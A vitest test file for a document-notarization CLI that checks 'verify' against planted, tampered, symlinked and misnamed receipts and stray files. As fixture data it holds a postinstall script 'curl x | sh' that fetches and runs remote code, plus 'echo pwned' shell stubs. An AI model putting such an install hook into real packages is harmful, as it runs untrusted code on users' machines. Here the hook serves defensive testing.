/**
 * Issue 12's done-when: receipts travel. Documents are registered with
 * --receipt-dir against a sandbox which is then closed; every check below
 * runs on an EMPTY store, with no API key, and nothing listening at the base
 * URL, so nothing but the receipts can speak for the documents.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { Bed, type BedMainOptions } from '../helpers/bed.js';
import { describeRun, type Run } from '../helpers/cli.js';
import { sampleRecord } from '../helpers/fixtures.js';
import type { ReceiptFields } from '../helpers/receipts.js';
import { countStatuses, jsonError, parseResults } from '../helpers/results.js';

let bed: Bed;
const hashes: Record<string, string> = {};
const NAMES = ['a.txt', 'b.txt', 'c.txt'];

beforeAll(async () => {
  bed = await Bed.create({ keyInEnv: true });
  for (const name of NAMES) hashes[name] = await bed.write(`dist/${name}`, `travelling document ${name}\n`);
  const run = await bed.main(['register', '-r', bed.path('dist'), '--receipt-dir', bed.path('receipts'), '--json']);
  expect(run.code, describeRun(run)).toBe(0);
  await bed.sandbox.close();
});
afterAll(async () => {
  await bed?.finish();
});

/** A fresh copy of the documents and receipts, as a downloader has them, and an empty store. */
let here = '';
let emptyStore = '';
beforeEach(() => {
  here = mkdtempSync(join(bed.root, 'download-'));
  cpSync(bed.path('dist'), join(here, 'dist'), { recursive: true });
  cpSync(bed.path('receipts'), join(here, 'receipts'), { recursive: true });
  emptyStore = mkdtempSync(join(bed.root, 'empty-store-'));
});

/** notarize in-process with an empty store and no credentials. */
function downloader(args: string[], options: BedMainOptions = {}): Promise<Run> {
  return bed.main(args, {
    ...options,
    env: { ...options.env, NOTARIZE_CONFIG_DIR: emptyStore, NOTARIZE_API_KEY: '', NOTARIZE_TOKEN: '' },
  });
}

/** `verify -r dist --receipt-dir receipts --json` on the downloaded copy. */
function verifyAllWithReceiptDir(): Promise<Run> {
  return downloader(['verify', '-r', join(here, 'dist'), '--receipt-dir', join(here, 'receipts'), '--json']);
}

const doc = (name: string) => join(here, 'dist', name);
const receipt = (name: string) => join(here, 'receipts', `${name}.notarization.json`);

function editReceipt(name: string, edit: (r: ReceiptFields) => void): void {
  const parsed = JSON.parse(readFileSync(receipt(name), 'utf8')) as ReceiptFields;
  edit(parsed);
  writeFileSync(receipt(name), JSON.stringify(parsed, null, 2));
}

describe('verify with receipts: empty store, service stopped, no credentials', () => {
  it('--receipt-dir: every document verified from its receipt, exit 0', async () => {
    const run = await verifyAllWithReceiptDir();
    expect(run.code, describeRun(run)).toBe(0);
    expect(parseResults(run.stdout).map((r) => [r.file, r.hash, r.status, r.source, r.receipt])).toEqual(
      NAMES.map((name) => [doc(name), hashes[name], 'verified', 'receipt', receipt(name)]),
    );
  });

  it('--receipt: one document, exit 0, saying what was checked and where to confirm it', async () => {
    const run = await downloader(['verify', doc('a.txt'), '--receipt', receipt('a.txt')]);
    expect(run.code, describeRun(run)).toBe(0);
    expect(run.stderr).toBe(
      `verified: ${doc('a.txt')} matches its receipt; the receipt's record can be confirmed at ` +
        `${bed.url}/verification/${hashes['a.txt']}\n`,
    );
    expect(run.stdout).toMatch(new RegExp(`^hash +${hashes['a.txt']}$`, 'm'));
  });

  it('beside the document (<doc>.notarization.json): exit 0; a walk passes the receipts over', async () => {
    for (const name of NAMES) cpSync(receipt(name), `${doc(name)}.notarization.json`);
    const one = await downloader(['verify', doc('b.txt'), '--json']);
    expect(one.code, describeRun(one)).toBe(0);
    const walk = await downloader(['verify', '-r', join(here, 'dist'), '--json']);
    expect(walk.code, describeRun(walk)).toBe(0);
    const results = parseResults(walk.stdout);
    expect(results.filter((r) => r.status === 'verified').map((r) => r.receipt)).toEqual(
      NAMES.map((name) => `${doc(name)}.notarization.json`),
    );
    expect(results.filter((r) => r.status === 'skipped')).toHaveLength(3);
  });

  it('receipts beside the documents, that folder given as --receipt-dir: one document or two, the same verdict', async () => {
    // One named alone was verified; two named failed 'inside --receipt-dir, and no receipt'.
    for (const name of NAMES) cpSync(receipt(name), `${doc(name)}.notarization.json`);
    const dist = join(here, 'dist');
    for (const names of [['a.txt'], ['a.txt', 'b.txt']]) {
      const run = await downloader(['verify', ...names.map(doc), '--receipt-dir', dist, '--json']);
      expect(run.code, describeRun(run)).toBe(0);
      const results = names.length === 1 ? [JSON.parse(run.stdout) as { hash: string }] : parseResults(run.stdout);
      expect(results.map((r) => r.hash)).toEqual(names.map((name) => hashes[name]));
    }
    // Found by a walk, a file in --receipt-dir is still one register passed over: failed, as before.
    const walked = await downloader(['verify', '-r', dist, '--receipt-dir', dist, '--json']);
    expect(walked.code, describeRun(walked)).toBe(2);
  });

  it('with --receipt-dir, a receipt beside a document is not read: one planted in dist cannot vouch for an artifact', async () => {
    // A file added to dist after registration, with a receipt of its own digest beside it (it holds together).
    writeFileSync(join(here, 'dist', 'evil.bin'), 'never registered\n');
    const evil = join(here, 'dist', 'evil.bin');
    const planted = JSON.parse(readFileSync(receipt('a.txt'), 'utf8')) as ReceiptFields;
    const digest = createHash('sha256').update('never registered\n').digest('hex');
    planted.document.sha256 = digest;
    planted.record.hash = digest;
    planted.service.verificationUrl = String(planted.service.verificationUrl).replace(hashes['a.txt']!, digest);
    writeFileSync(`${evil}.notarization.json`, JSON.stringify(planted));
    // Without --receipt-dir the receipt beside it decides: that is where it says receipts are.
    const beside = await downloader(['verify', evil]);
    expect(beside.code, describeRun(beside)).toBe(0);

    const gate = await verifyAllWithReceiptDir();
    expect(gate.code, describeRun(gate)).toBe(6);
    const results = parseResults(gate.stdout);
    expect(results.find((r) => r.file === evil)).toEqual(expect.objectContaining({ status: 'unknown' }));
    expect(results.find((r) => r.file === evil)).not.toHaveProperty('receipt');
    expect(results.filter((r) => r.status === 'verified')).toHaveLength(NAMES.length);
    expect(jsonError(gate.stderr).hint).toContain('with --receipt-dir, none beside a document is read');
  });

  it('a link or special file met in a walk fails the check (exit 2) unless --exclude leaves it out', async () => {
    const outside = join(here, 'elsewhere');
    mkdirSync(outside);
    writeFileSync(join(outside, 'payload.exe'), 'never registered\n');
    symlinkSync(outside, join(here, 'dist', 'plugins'));
    symlinkSync(join(outside, 'payload.exe'), join(here, 'dist', 'tool.exe'));
    execFileSync('mkfifo', [join(here, 'dist', 'pipe')]);

    const gate = await verifyAllWithReceiptDir();
    expect(gate.code, describeRun(gate)).toBe(2);
    const failed = parseResults(gate.stdout).filter((r) => r.status === 'failed');
    expect(failed.map((r) => r.file).sort()).toEqual(['pipe', 'plugins', 'tool.exe'].map((n) => join(here, 'dist', n)));
    for (const result of failed) {
      expect(result.error).toMatchObject({
        code: 'not_followed',
        hint: 'verify what it points to by its own path, or leave it out with --exclude if it is not shipped',
      });
    }
    expect(jsonError(gate.stderr)).toMatchObject({
      code: 'batch_failed',
      message: '3 of 6 documents could not be checked',
    });

    // Left out on purpose: the same walk passes, and says nothing of them.
    const excluded = await downloader([
      'verify',
      '-r',
      join(here, 'dist'),
      '--receipt-dir',
      join(here, 'receipts'),
      '--exclude',
      'plugins',
      '--exclude',
      'tool.exe',
      '--exclude',
      'pipe',
      '--json',
    ]);
    expect(excluded.code, describeRun(excluded)).toBe(0);
    expect(parseResults(excluded.stdout).map((r) => r.status)).toEqual(NAMES.map(() => 'verified'));
    expect(excluded.stderr).toBe('3 items: 3 verified\n');

    // --include leaves out a link to a file it does not let through, never a link to a folder:
    // its name says nothing of the files under it.
    const included = await downloader([
      'verify',
      '-r',
      join(here, 'dist'),
      '--receipt-dir',
      join(here, 'receipts'),
      '--include',
      '*.txt',
      '--json',
    ]);
    expect(included.code, describeRun(included)).toBe(2);
    expect(
      parseResults(included.stdout)
        .filter((r) => r.status === 'failed')
        .map((r) => r.file),
    ).toEqual([join(here, 'dist', 'plugins')]);
  });

  it('a receipt that is a link is not followed, found by name or beside its document: failed (exit 2), as a walk says (r92)', async () => {
    // In --receipt-dir, under the name register gave it.
    const kept = join(here, 'kept-a.json');
    renameSync(receipt('a.txt'), kept);
    symlinkSync(kept, receipt('a.txt'));
    const named = await downloader(['verify', doc('a.txt'), '--receipt-dir', join(here, 'receipts'), '--json']);
    expect(named.code, describeRun(named)).toBe(2);
    expect(parseResults(named.stdout)[0]?.error).toMatchObject({
      code: 'receipt_unreadable',
      message: `the receipt ${receipt('a.txt')} is a symbolic link, which verify does not follow`,
      hint: 'check the file it points to with --receipt, or put the receipt itself there',
    });
    // Beside its document, met by a walk: the document fails for it, and the link is not also its evidence.
    const beside = `${doc('a.txt')}.notarization.json`;
    symlinkSync(kept, beside);
    const walked = await downloader(['verify', '-r', join(here, 'dist'), '--json']);
    expect(walked.code, describeRun(walked)).toBe(2);
    const results = parseResults(walked.stdout);
    expect(results.find((r) => r.file === doc('a.txt'))).toMatchObject({
      status: 'failed',
      error: { code: 'receipt_unreadable' },
    });
    expect(results.find((r) => r.file === beside)).toMatchObject({ status: 'failed', error: { code: 'not_followed' } });
    expect(results.filter((r) => r.status === 'verified' && r.receipt === beside)).toEqual([]);
    // Its target named with --receipt: verified.
    const target = await downloader(['verify', doc('a.txt'), '--receipt', kept, '--json']);
    expect(target.code, describeRun(target)).toBe(0);
  });

  it('a walk passes over only real receipts: a file named like one, or any other file in --receipt-dir, is verified', async () => {
    writeFileSync(join(here, 'dist', 'install.notarization.json'), '#!/bin/sh\necho pwned\n');
    // Its type says receipt, but it holds nothing together: no receipt either.
    writeFileSync(join(here, 'dist', 'typed.notarization.json'), '{"type":"notarize-receipt","note":"x"}');
    cpSync(receipt('a.txt'), join(here, 'dist', 'a.txt.notarization.json'));
    const walk = await downloader(['verify', '-r', join(here, 'dist'), '--json']);
    expect(walk.code, describeRun(walk)).toBe(6);
    const results = parseResults(walk.stdout);
    for (const name of ['install.notarization.json', 'typed.notarization.json']) {
      expect(results.find((r) => r.file === join(here, 'dist', name))).toMatchObject({ status: 'unknown' });
    }
    expect(results.filter((r) => r.status === 'skipped').map((r) => r.file)).toEqual([
      join(here, 'dist', 'a.txt.notarization.json'),
    ]);

    // The receipts inside the walked folder: the receipts are passed over; a script beside them, which
    // register passes over too, fails, saying how to leave it out.
    cpSync(join(here, 'receipts'), join(here, 'dist', 'receipts'), { recursive: true });
    writeFileSync(join(here, 'dist', 'receipts', 'install.sh'), 'x');
    const inside = await downloader([
      'verify',
      '-r',
      join(here, 'dist'),
      '--receipt-dir',
      join(here, 'dist', 'receipts'),
      '--json',
    ]);
    expect(inside.code, describeRun(inside)).toBe(2);
    const statuses = parseResults(inside.stdout).map((r) => [r.file!.slice(here.length + 1), r.status]);
    expect(statuses).toContainEqual(['dist/receipts/install.sh', 'failed']);
    expect(parseResults(inside.stdout).find((r) => r.file!.endsWith('install.sh'))!.error).toMatchObject({
      code: 'inside_receipt_dir',
      hint: 'move it out of --receipt-dir, or leave it out with --exclude',
    });
    expect(statuses.filter(([, status]) => status === 'skipped')).toHaveLength(NAMES.length + 1);
  });

  it('a run stopped before renaming a receipt: its temporary file in --receipt-dir is passed over only if it is one', async () => {
    cpSync(join(here, 'receipts'), join(here, 'dist', 'receipts'), { recursive: true });
    const inReceipts = (name: string) => join(here, 'dist', 'receipts', name);
    // As writeFileAtomic names them (`.<target>.<pid>.<tag>.<count>.tmp`); a killed run leaves what it had written.
    const whole = readFileSync(inReceipts('a.txt.notarization.json'));
    const leftovers = {
      '.a.txt.notarization.json.4242.0badcafe.1z.tmp': whole.subarray(0, 100),
      '.b.txt.notarization.json.4242.0badcafe.2.tmp': Buffer.alloc(0),
    };
    for (const [name, bytes] of Object.entries(leftovers)) writeFileSync(inReceipts(name), bytes);
    const args = ['verify', '-r', join(here, 'dist'), '--receipt-dir', join(here, 'dist', 'receipts'), '--json'];
    const run = await downloader(args);
    expect(run.code, describeRun(run)).toBe(0);
    const results = parseResults(run.stdout);
    expect(countStatuses(results)).toEqual({ verified: NAMES.length, skipped: NAMES.length + 2 });
    // However the folders are spelt (`-r ./dist/ --receipt-dir dist/receipts/`).
    const spelt = await downloader([
      'verify',
      '-r',
      `${here}/./dist/`,
      '--receipt-dir',
      `${here}/dist/receipts/`,
      '--json',
    ]);
    expect(spelt.code, describeRun(spelt)).toBe(0);
    expect(countStatuses(parseResults(spelt.stdout))).toEqual({ verified: NAMES.length, skipped: NAMES.length + 2 });
    for (const name of Object.keys(leftovers)) {
      expect(results.find((r) => r.file === inReceipts(name))!.reason).toMatch(
        /^inside --receipt-dir: the temporary file of a receipt or tree manifest passed over here, left by a run stopped/,
      );
    }
    // Named so, but no start of a receipt passed over (anyone can name a file so), or of one that is not there:
    // nothing proves it.
    const planted = {
      '.c.txt.notarization.json.1.deadbeef.1.tmp': '#!/bin/sh\necho pwned\n',
      '.gone.txt.notarization.json.1.deadbeef.2.tmp': whole.subarray(0, 10).toString(),
      // The whole receipt and more: no piece of it.
      '.a.txt.notarization.json.1.deadbeef.3.tmp': `${whole.toString()}#!/bin/sh\n`,
      [`.${'e'.repeat(64)}.tree.json.7.deadbeef.0.tmp`]: '',
    };
    for (const [name, text] of Object.entries(planted)) writeFileSync(inReceipts(name), text);
    const refused = await downloader(args);
    expect(refused.code, describeRun(refused)).toBe(6);
    for (const name of Object.keys(planted)) {
      expect(parseResults(refused.stdout).find((r) => r.file === inReceipts(name))).toMatchObject({
        status: 'unknown',
        reason: expect.stringMatching(
          /^inside --receipt-dir, named as a temporary file of a receipt or tree manifest, but/,
        ),
      });
    }
  });

  it('a run killed while checking that --receipt-dir takes files: its empty probe is passed over, no other file so named', async () => {
    cpSync(join(here, 'receipts'), join(here, 'dist', 'receipts'), { recursive: true });
    const inReceipts = (name: string) => join(here, 'dist', 'receipts', name);
    writeFileSync(inReceipts('.notarize-probe-4242.0badcafe.0'), '');
    const args = ['verify', '-r', join(here, 'dist'), '--receipt-dir', join(here, 'dist', 'receipts'), '--json'];
    const run = await downloader(args);
    expect(run.code, describeRun(run)).toBe(0);
    expect(countStatuses(parseResults(run.stdout))).toEqual({ verified: NAMES.length, skipped: NAMES.length + 1 });
    expect(
      parseResults(run.stdout).find((r) => r.file === inReceipts('.notarize-probe-4242.0badcafe.0'))!.reason,
    ).toMatch(/^inside --receipt-dir: the empty file register makes to check that the folder takes files/);
    // Not empty: anyone can name a file so, and nothing proves what it holds.
    writeFileSync(inReceipts('.notarize-probe-4242.0badcafe.0'), '#!/bin/sh\necho pwned\n');
    const refused = await downloader(args);
    expect(refused.code, describeRun(refused)).toBe(6);
    expect(
      parseResults(refused.stdout).find((r) => r.file === inReceipts('.notarize-probe-4242.0badcafe.0')),
    ).toMatchObject({
      status: 'unknown',
      reason: expect.stringMatching(
        /^inside --receipt-dir, named as the empty file register checks the folder with, but not empty/,
      ),
    });
  });

  it('receipts beside their documents pass over, also of one modified; any other receipt-named file is unknown', async () => {
    for (const name of NAMES) cpSync(receipt(name), `${doc(name)}.notarization.json`);
    const walk = (...extra: string[]) => downloader(['verify', '-r', join(here, 'dist'), ...extra, '--json']);
    const unknown = (run: Run) =>
      parseResults(run.stdout)
        .filter((r) => r.status === 'unknown')
        .map((r) => basename(r.file!))
        .sort();
    const clean = await walk();
    expect(clean.code, describeRun(clean)).toBe(0);
    expect(countStatuses(parseResults(clean.stdout))).toEqual({ verified: 3, skipped: 3 });
    // A receipt named by its digest, as register names one of standard input or --hash in --receipt-dir, of a
    // document verified here: one in that folder; anywhere else verify reads no receipt of that name.
    const shipped = join(here, 'dist', 'receipts');
    cpSync(join(here, 'receipts'), shipped, { recursive: true });
    const byDigest = join(shipped, `${hashes['a.txt']!}.notarization.json`);
    cpSync(receipt('a.txt'), byDigest);
    const inDir = await walk('--receipt-dir', shipped);
    expect(inDir.code, describeRun(inDir)).toBe(0);
    expect(parseResults(inDir.stdout).find((r) => r.file === byDigest)).toMatchObject({ status: 'skipped' });
    const loose = join(here, 'dist', `${hashes['a.txt']!}.notarization.json`);
    renameSync(byDigest, loose);
    const elsewhere = await walk('--receipt-dir', shipped);
    expect(elsewhere.code, describeRun(elsewhere)).toBe(6);
    expect(unknown(elsewhere)).toEqual([basename(loose)]);
    rmSync(shipped, { recursive: true });
    const noDir = await walk();
    expect(noDir.code, describeRun(noDir)).toBe(6);
    expect(unknown(noDir)).toEqual([basename(loose)]);
    rmSync(loose);
    // b.txt left out on purpose: its receipt is no document's here, unless it is left out too.
    const excluded = await walk('--exclude', 'b.txt');
    expect(excluded.code, describeRun(excluded)).toBe(6);
    expect(unknown(excluded)).toEqual(['b.txt.notarization.json']);
    const both = await walk('--exclude', 'b.txt*');
    expect(both.code, describeRun(both)).toBe(0);
    writeFileSync(doc('a.txt'), 'changed\n');
    const modified = await walk();
    expect(modified.code, describeRun(modified)).toBe(6);
    const statuses = parseResults(modified.stdout).map((r) => r.status);
    expect(statuses.filter((s) => s !== 'skipped').sort()).toEqual(['modified', 'verified', 'verified']);
    // Planted, each a receipt that holds together: a copy of c's under the name of no file there; one of
    // another digest beside c (with --receipt-dir too, where beside receipts are not evidence); one
    // beside a receipt.
    cpSync(receipt('c.txt'), join(here, 'dist', 'setup.notarization.json'));
    const other = sampleRecord('e'.repeat(64), { scripts: { postinstall: 'curl x | sh' } });
    writeFileSync(`${doc('c.txt')}.notarization.json`, other);
    writeFileSync(`${doc('b.txt')}.notarization.json.notarization.json`, other);
    // Without --receipt-dir the one beside c is c's evidence, and makes c modified; with it, it is unknown.
    const plain = await walk('--exclude', 'a.txt*');
    expect(plain.code, describeRun(plain)).toBe(6);
    expect(unknown(plain)).toEqual(['b.txt.notarization.json.notarization.json', 'setup.notarization.json']);
    expect(parseResults(plain.stdout).find((r) => r.file === doc('c.txt'))).toMatchObject({ status: 'modified' });
    const withDir = await walk('--exclude', 'a.txt*', '--receipt-dir', join(here, 'receipts'));
    expect(withDir.code, describeRun(withDir)).toBe(6);
    expect(unknown(withDir)).toEqual([
      'b.txt.notarization.json.notarization.json',
      'c.txt.notarization.json',
      'setup.notarization.json',
    ]);
  });

  it("a receipt named as a document's in another folder of the walk is no receipt of it: unknown, not passed over", async () => {
    // A copy of a.txt's real receipt (it holds together, and is of a.txt's digest), planted in a folder of its own
    // and in one named like a folder of receipts: verify reads a.txt's receipt in receipts/ (or beside a.txt),
    // never there, so nothing proves these files.
    const planted = [
      join(here, 'dist', 'other', 'a.txt.notarization.json'),
      join(here, 'dist', 'x', 'receipts', 'a.txt.notarization.json'),
    ];
    for (const path of planted) {
      mkdirSync(join(path, '..'), { recursive: true });
      cpSync(receipt('a.txt'), path);
    }
    for (const extra of [['--receipt-dir', join(here, 'receipts')], []]) {
      if (extra.length === 0) for (const name of NAMES) cpSync(receipt(name), `${doc(name)}.notarization.json`);
      const run = await downloader(['verify', '-r', join(here, 'dist'), ...extra, '--json']);
      expect(run.code, describeRun(run)).toBe(6);
      const results = parseResults(run.stdout);
      expect(
        results
          .filter((r) => r.status === 'unknown')
          .map((r) => r.file)
          .sort(),
      ).toEqual(planted.sort());
      expect(results.find((r) => r.file === planted[0])?.reason).toBe(
        `a receipt of ${hashes['a.txt']!}, named as the receipt of no document checked here and the evidence of none: ` +
          'nothing checked here proves this file (a folder of receipts counts only as --receipt-dir; else leave it out of the files checked if it is not shipped)',
      );
      expect(countStatuses(results)).toMatchObject({ verified: 3 });
      // The run's hint is of those files, not of documents without a receipt.
      expect(jsonError(run.stderr).hint).toBe(
        'unknown: 2 receipts or tree manifests among the files checked that no document checked is under (see ' +
          'their lines): a receipt of a document renamed since proves that document with --receipt; one registered ' +
          'as a document of its own (named or listed: a walk of register passes them over) is checked as one when ' +
          'named in a verify run of its own; else leave them out of the files checked (--exclude)',
      );
    }
  });

  it('a document renamed, its receipt beside it under the old name: the hint never says to throw that receipt away', async () => {
    const dir = join(here, 'renamed');
    mkdirSync(dir);
    cpSync(doc('a.txt'), join(dir, 'renamed.txt'));
    cpSync(receipt('a.txt'), join(dir, 'a.txt.notarization.json'));
    const run = await downloader(['verify', '-r', dir, '--json']);
    expect(run.code, describeRun(run)).toBe(6);
    const { hint } = jsonError(run.stderr);
    expect(hint).toContain('a receipt of a document renamed since proves that document with --receipt');
    expect(hint).toContain('unknown: give its receipt');
    expect(hint).not.toMatch(/aside|proves nothing/);
    // As it does.
    const proved = await downloader([
      'verify',
      join(dir, 'renamed.txt'),
      '--receipt',
      join(dir, 'a.txt.notarization.json'),
    ]);
    expect(proved.code, describeRun(proved)).toBe(0);
  });

  it('a walk that finds no document (an empty folder, only receipts, no match) is exit 2, not a pass', async () => {
    mkdirSync(join(here, 'empty'));
    const empty = await downloader(['verify', '-r', join(here, 'empty')]);
    expect(empty.code, describeRun(empty)).toBe(2);
    expect(empty.stderr).toContain('no documents: the folders walked hold no file');
    const onlyReceipts = await downloader(['verify', '-r', join(here, 'receipts')]);
    expect(onlyReceipts.code, describeRun(onlyReceipts)).toBe(2);
    expect(onlyReceipts.stderr).toContain(
      'no documents: the walk found receipts or tree manifests, and no document beside them',
    );
    const noMatch = await downloader(['verify', '-r', join(here, 'dist'), '--include', '*.zip']);
    expect(noMatch.code, describeRun(noMatch)).toBe(2);
    expect(noMatch.stderr).toContain('no file that --include and --exclude let through');
  });

  it('one byte of a document changed: 6, that one modified, the others verified', async () => {
    const bytes = readFileSync(doc('b.txt'));
    bytes[0] = bytes[0]! ^ 1;
    writeFileSync(doc('b.txt'), bytes);
    const run = await verifyAllWithReceiptDir();
    expect(run.code, describeRun(run)).toBe(6);
    expect(parseResults(run.stdout).map((r) => r.status)).toEqual(['verified', 'modified', 'verified']);
    expect(jsonError(run.stderr)).toMatchObject({
      code: 'not_notarized',
      message: '1 of 3 documents are not verified (1 modified)',
    });
  });

  it.each([
    ["the receipt's document.sha256", (r: ReceiptFields) => (r.document.sha256 = 'f'.repeat(64))],
    ["its record's hash", (r: ReceiptFields) => (r.record.hash = 'f'.repeat(64))],
  ])('%s changed: 6, invalid', async (_, edit) => {
    editReceipt('c.txt', edit);
    const run = await downloader(['verify', doc('c.txt'), '--receipt', receipt('c.txt'), '--json']);
    expect(run.code, describeRun(run)).toBe(6);
    const [result] = parseResults(run.stdout);
    expect(result).toMatchObject({ status: 'invalid', source: 'receipt', receipt: receipt('c.txt') });
    expect(result!.reason).toMatch(
      /^the receipt's record is of [0-9a-f]{64}, not of its document's digest [0-9a-f]{64}$/,
    );
  });

  it('a document with no receipt and nothing in the ledger: 6, unknown', async () => {
    writeFileSync(join(here, 'new.txt'), 'never registered\n');
    const run = await downloader(['verify', join(here, 'new.txt'), '--receipt-dir', join(here, 'receipts'), '--json']);
    expect(run.code, describeRun(run)).toBe(6);
    expect(parseResults(run.stdout)).toMatchObject([{ status: 'unknown' }]);
  });

  it('--receipt with several documents is a usage error (exit 2), nothing read', async () => {
    const run = await downloader(['verify', doc('a.txt'), doc('b.txt'), '--receipt', receipt('a.txt')]);
    expect(run.code, describeRun(run)).toBe(2);
    expect(run.stderr).toMatch(/^notarize: --receipt checks one document: name exactly one/);
  });

  it('--receipt - reads the receipt from standard input, which then cannot also be the document (exit 2)', async () => {
    const input = readFileSync(receipt('a.txt'));
    const run = await downloader(['verify', doc('a.txt'), '--receipt', '-'], { input });
    expect(run.code, describeRun(run)).toBe(0);
    const both = await downloader(['verify', '-', '--receipt', '-'], { input });
    expect(both.code, describeRun(both)).toBe(2);
    expect(both.stderr).toMatch(/^notarize: standard input cannot be both the document and its receipt/);
  });

  it('a receipt named by --receipt that does not exist: exit 2', async () => {
    const run = await downloader(['verify', doc('a.txt'), '--receipt', join(here, 'nope.json')]);
    expect(run.code, describeRun(run)).toBe(2);
    expect(run.stderr).toMatch(/cannot read the receipt from '.*nope\.json': no such file/);
  });
});
